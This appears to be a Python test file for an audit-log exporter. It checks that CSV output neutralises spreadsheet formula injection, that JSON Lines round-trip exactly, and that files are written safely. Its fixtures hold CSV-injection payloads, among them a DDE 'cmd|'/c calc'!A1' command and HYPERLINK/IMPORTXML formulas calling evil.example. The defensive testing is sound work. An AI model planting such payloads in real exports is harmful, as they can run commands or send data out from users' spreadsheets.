"""Exporting the audit log: no spreadsheet runs a cell, JSON Lines lose nothing, no file is overwritten."""

from __future__ import annotations

import csv
import json
import os
import resource
import stat
import unicodedata
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.conftest import SoakScale
from tui.interchange.audit_export import COLUMNS, Format, cell, csv_header, csv_rows, export, json_rows
from tui.model.audit import AuditAction, AuditEvent, AuditResult
from tui.model.errors import Denied, Unreachable, VaultError
from tui.model.ids import AccountId, ItemId, ItemRef, VaultId
from tui.services.audit_merge import merged

# Texts made of what makes cells dangerous, among anything else.
RISKY = st.lists(
    st.sampled_from(
        ["=", "+", "-", "@", *"\uff1d\uff0b\uff0d\uff20\u2212\u207c\ufe66", ",", ";", "|", "\t", "\r", "\n", '"', "'"]
    )
    | st.sampled_from(
        [" ", "\xa0", "\u200b", "\ufeff", "\u3000", "\x00", "\x1b", "\u202e", "\u2028", "cmd|'/c calc'!A1"]
    )
    | st.text(max_size=3),
    max_size=10,
).map("".join)
TEXT = RISKY | st.text(max_size=40)
REFS = st.builds(ItemRef, TEXT.map(AccountId), TEXT.map(VaultId), TEXT.map(ItemId))
EVENTS = st.builds(
    AuditEvent,
    at=st.floats(allow_nan=False),
    actor=TEXT,
    action=st.sampled_from(AuditAction),
    result=st.sampled_from(AuditResult),
    ref=st.none() | REFS,
    title=TEXT,
    vault_name=TEXT,
    field=TEXT,
    detail=TEXT,
    serial=st.integers(0, 2**53),
    id=TEXT,
    word=TEXT,
    ip=TEXT,
    client=TEXT,
    source=TEXT,
    raw=st.lists(st.tuples(TEXT, TEXT), max_size=3).map(tuple),
)
UNSEEN = " \t\r\n\xa0\u3000\u200b\ufeff\x00"


def begins_formula(text: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula, in any width of its sign."""
    first = unicodedata.normalize("NFKC", text.lstrip(UNSEEN)).lstrip(UNSEEN)[:1]
    return first != "" and first in "=+-@\u2212"


@given(st.lists(EVENTS, max_size=4), st.sampled_from([",", ";", "|", "\t"]))
@example([AuditEvent(0.0, 'a;"=1+1', AuditAction.COPY, title=';""=1+1&""')], ";")
@example([AuditEvent(-1e300, "=HYPERLINK(1)", AuditAction.COPY, title="x\r\n=1+1")], ",")
def test_no_cell_is_a_formula_whatever_separator_the_spreadsheet_prefers(events: list[AuditEvent], sign: str) -> None:
    lines = (csv_header() + csv_rows(events)).split("\r\n")
    for row in csv.reader(lines, delimiter=sign):
        assert not any(begins_formula(text) for text in row)


@given(st.lists(EVENTS, max_size=4))
def test_csv_has_a_row_for_each_event_and_nothing_else(events: list[AuditEvent]) -> None:
    text = csv_header() + csv_rows(events)
    rows = list(csv.reader(text.encode("utf-8").decode("utf-8-sig").split("\r\n")[:-1], strict=True))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == 1 + len(events)
    for row, event in zip(rows[1:], events, strict=True):
        assert len(row) == len(COLUMNS)
        assert row[3] == event.result
        assert row[2] == (event.action if event.action is not AuditAction.OTHER or not event.word else cell(event.word))


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("GitHub", "GitHub"),
        ("a-b", "a-b"),
        ("max@example.com", "max@example.com"),
        ("-", "'-"),
        ("=1+1", "'=1+1"),
        ("\uff1d1", "'\uff1d1"),
        ("\t=1", " '=1"),
        ("a;=1", "a;'=1"),
        ("two\nlines", "two␤lines"),
        ('say "hi"', 'say "hi"'),
    ],
)
def test_cells_stay_readable(text: str, wanted: str) -> None:
    assert cell(text) == wanted


@given(st.lists(EVENTS, max_size=4))
def test_json_lines_give_back_every_event_exactly(events: list[AuditEvent]) -> None:
    lines = json_rows(events).encode("ascii").decode("utf-8").splitlines()
    back = []
    for line in lines:
        row = json.loads(line)
        ref = None
        if row["account"] is not None:
            ref = ItemRef(AccountId(row["account"]), VaultId(row["vault"]), ItemId(row["item"]))
        names = (row["title"], row["vault_name"], row["field"], row["detail"])
        back.append(
            AuditEvent(
                row["at"],
                row["actor"],
                AuditAction(row["action"]),
                AuditResult(row["result"]),
                ref,
                *names,
                row["serial"],
                row["id"],
                row["word"],
                row["ip"],
                row["client"],
                row["log"],
                tuple((name, text) for name, text in row["raw"]),
            )
        )
    assert back == events


def test_times_are_told_in_utc() -> None:
    text = csv_rows([AuditEvent(1795350183.25, "max", AuditAction.REVEAL)])
    assert text.startswith('"2026-11-22T12:23:03.250Z","max","reveal","ok"')


def event(number: int) -> AuditEvent:
    return AuditEvent(1795350183.0 + number, "max", AuditAction.COPY, title=f"item {number}", serial=number)


async def pages(*given_pages: Sequence[AuditEvent]) -> AsyncIterator[Sequence[AuditEvent]]:
    for page in given_pages:
        yield page


async def test_a_file_is_written_page_by_page_for_its_owner_alone(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    before = os.umask(0)
    try:
        count = await export(path, Format.JSON_LINES, pages([event(3), event(2)], [event(1)]))
    finally:
        os.umask(before)
    assert count == 3
    assert [json.loads(line)["serial"] for line in path.read_text().splitlines()] == [3, 2, 1]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


async def test_csv_begins_with_the_names_of_the_columns(tmp_path: Path) -> None:
    path = tmp_path / "audit.csv"
    assert await export(path, Format.CSV, pages()) == 0
    content = path.read_bytes()
    assert content.startswith(b'\xef\xbb\xbf"time","who","action","result","item","vault","field","detail","ip",')
    assert content.endswith(b'"also told"\r\n')


async def test_a_file_that_is_there_is_left_alone(tmp_path: Path) -> None:
    path = tmp_path / "audit.csv"
    path.write_text("mine")
    with pytest.raises(Denied, match="exists already"):
        await export(path, Format.CSV, pages([event(1)]))
    assert path.read_text() == "mine"


async def test_a_link_is_not_followed_even_where_it_leads_nowhere(tmp_path: Path) -> None:
    path = tmp_path / "audit.csv"
    path.symlink_to(tmp_path / "elsewhere.csv")
    with pytest.raises(Denied):
        await export(path, Format.CSV, pages([event(1)]))
    assert not (tmp_path / "elsewhere.csv").exists()


@pytest.mark.parametrize("name", ["no/such/directory.csv", "nul\0.csv", "x" * 300 + ".csv"])
async def test_a_path_that_cannot_be_is_told(tmp_path: Path, name: str) -> None:
    with pytest.raises(Unreachable, match="cannot be made"):
        await export(tmp_path / name, Format.CSV, pages([event(1)]))


async def test_nothing_is_left_where_the_log_cannot_be_read_to_its_end(tmp_path: Path) -> None:
    async def damaged() -> AsyncIterator[Sequence[AuditEvent]]:
        yield [event(2)]
        raise VaultError("The audit log is damaged.")

    path = tmp_path / "audit.csv"
    with pytest.raises(VaultError, match="damaged"):
        await export(path, Format.CSV, damaged())
    assert not path.exists()


async def test_a_disk_that_ends_is_told_and_nothing_is_left(tmp_path: Path) -> None:
    path = tmp_path / "audit.csv"
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (1000, hard))
    try:
        with pytest.raises(Unreachable, match="removed"):
            await export(path, Format.CSV, pages([event(number) for number in range(100)]))
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert not path.exists()


# A whole log of hostile events

BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\t=",
    "\r\n=",
    " =",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\u2212",
)
FORMULAS = (
    'HYPERLINK("http://evil.example","x")',
    "cmd|'/c calc'!A1",
    "1+1",
    'SUM(1;2)";=1+1',
    "x,=1+1",
    "x;=1+1\t=2",
    'IMPORTXML("http://evil.example")\r\n=1+1',
    "\u202e=1",
    "\u200b=1",
    "\ufeff=1",
    '"',
    '""=1',
    "'=1",
    "a\x00b",
)


def hostile(number: int) -> AuditEvent:
    """Return an event every text of which means the spreadsheet."""
    text = f"{BEGINNINGS[number % len(BEGINNINGS)]}{FORMULAS[number % len(FORMULAS)]}{number}"
    ref = ItemRef(AccountId(text), VaultId(text), ItemId(text))
    event = AuditEvent(1795350183.0 - number, text, AuditAction.OTHER, AuditResult.UNTOLD, ref, text, text, text, text)
    return replace(event, id=text, word=text, ip=text, client=text, source=text, raw=((text, text), ("a", text)))


async def spoken(events: Sequence[AuditEvent]) -> AsyncIterator[Sequence[AuditEvent]]:
    for begin in range(0, len(events), 500):
        yield events[begin : begin + 500]


async def test_a_merged_log_of_fifty_thousand_hostile_events_is_read_back_equal_and_no_cell_is_a_formula(
    tmp_path: Path, soak_scale: SoakScale
) -> None:
    events = soak_scale(50_000)
    logs = [[hostile(number) for number in range(first, events, 3)] for first in range(3)]

    def troubled(error: VaultError) -> None:
        raise error

    path = tmp_path / "audit.csv"
    assert await export(path, Format.CSV, merged([(spoken(log), troubled) for log in logs])) == events
    with path.open(encoding="utf-8-sig", newline="") as file:
        table = list(csv.reader(file, strict=True))
    assert len(table) == events + 1
    assert table[0] == list(COLUMNS)
    for number, row in enumerate(table[1:]):
        text = cell(hostile(number).actor)
        assert row[1] == row[2] == row[4] == row[8] == row[11] == row[15] == text
        assert len(row) == len(COLUMNS)
        assert not any(begins_formula(one) or one.startswith(("\t", "\r")) for one in row)
